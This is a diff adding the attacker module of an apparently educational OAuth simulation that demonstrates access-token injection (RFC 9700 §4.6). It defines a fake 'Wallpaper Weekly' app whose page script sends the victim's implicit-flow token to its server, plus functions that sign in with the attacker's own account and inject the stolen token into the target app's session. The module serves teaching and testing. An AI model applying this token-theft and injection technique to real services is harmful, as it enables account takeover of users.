@@ -1,0 +1,97 @@
+/** The attacker: an honest-looking app of their own, and a sign-in of theirs into which they put somebody else’s token (RFC 9700 §4.6). */
+import { base64url } from 'jose'
+import { type HttpHandler, html, json, markup, parseForm, redirect } from '../../http/index.ts'
+import { appPage } from '../../scenario-kit/parties/app-page.ts'
+import { type PlainBrowser, redirectOf } from '../../scenario-kit/parties/plain-browser.ts'
+import type { Page, ServerGlobals } from '../../simulation/index.ts'
+import type { ClientConfig } from './client.ts'
+
+/** URL origin of the attacker’s app. */
+export const WALLPAPERS = 'https://wallpapers.example'
+
+/** What the attacker holds. */
+export interface Loot {
+  /** Ada’s, issued to the attacker’s app. */
+  received?: string
+  /** Of the attacker’s own account, issued to the app that is attacked. */
+  own?: string
+  /** What that app has answered. */
+  seen?: string
+}
+
+/** The attacker’s app: it signs people in by an access token, which it keeps. */
+export function createWallpapers(authorization_endpoint: string, loot: Loot): HttpHandler {
+  return async ({ method, url, body }) => {
+    // #region wallpapers
+    switch (`${method} ${new URL(url).pathname}`) {
+      case 'GET /': {
+        const request = new URL(authorization_endpoint)
+        request.search = new URLSearchParams({
+          response_type: 'token',
+          client_id: 'wallpapers',
+          redirect_uri: `${WALLPAPERS}/callback`,
+          scope: 'openid',
+        }).toString()
+        return redirect(request.href)
+      }
+      case 'GET /callback':
+        return html(200, wallpapersPage())
+      case 'POST /collect':
+        loot.received = new Map(parseForm(body)).get('access_token') ?? ''
+        return json(200, {})
+      default:
+        return html(404, 'Not Found')
+    }
+    // #endregion
+  }
+}
+
+/** Its page’s script: takes the token to its server, as the page of any such app does. */
+export async function collect({ url, globals }: Page): Promise<void> {
+  // #region wallpapers
+  const access_token = new URLSearchParams(url.hash.slice(1)).get('access_token')
+  if (access_token === null) return
+  await globals.fetch('/collect', { method: 'POST', body: new URLSearchParams({ access_token }) })
+  // #endregion
+}
+
+/** Signs in to the attacked app with an account of the attacker’s own, and keeps the ID token of the response. */
+export async function signInThemselves(
+  { crypto }: ServerGlobals,
+  browser: PlainBrowser,
+  { authorization_endpoint, client_id, redirect_uri, scope }: ClientConfig,
+  credentials: Readonly<Record<'username' | 'password', string>>,
+): Promise<string> {
+  // #region injected
+  const { nonce } = JSON.parse((await browser.get(new URL('/random-value', redirect_uri).href)).body)
+  const state = base64url.encode(crypto.getRandomValues(new Uint8Array(16)))
+  const request = new URL(authorization_endpoint)
+  request.search = new URLSearchParams({
+    response_type: 'id_token token',
+    client_id,
+    redirect_uri,
+    scope,
+    state,
+    nonce,
+  }).toString()
+  const onward = redirectOf(await browser.submit(await browser.get(request.href), credentials))
+  const answer = redirectOf(await browser.submit(await browser.get(onward.href), { decision: 'approve' }))
+  return new URLSearchParams(answer.hash.slice(1)).get('id_token') ?? ''
+  // #endregion
+}
+
+/** Does what the attacked app’s page does with a response, but for one token: that is Ada’s. */
+export async function inject(browser: PlainBrowser, app: string, { received = '', own = '' }: Loot): Promise<string> {
+  // #region injected
+  const response = new URLSearchParams({ access_token: received, id_token: own })
+  return (await browser.post(new URL('/session', app).href, response.toString())).body
+  // #endregion
+}
+
+function wallpapersPage(): string {
+  return appPage({
+    app: 'Wallpaper Weekly',
+    title: 'Welcome',
+    body: markup`<p>Your first wallpaper comes on Monday.</p>`,
+  })
+}
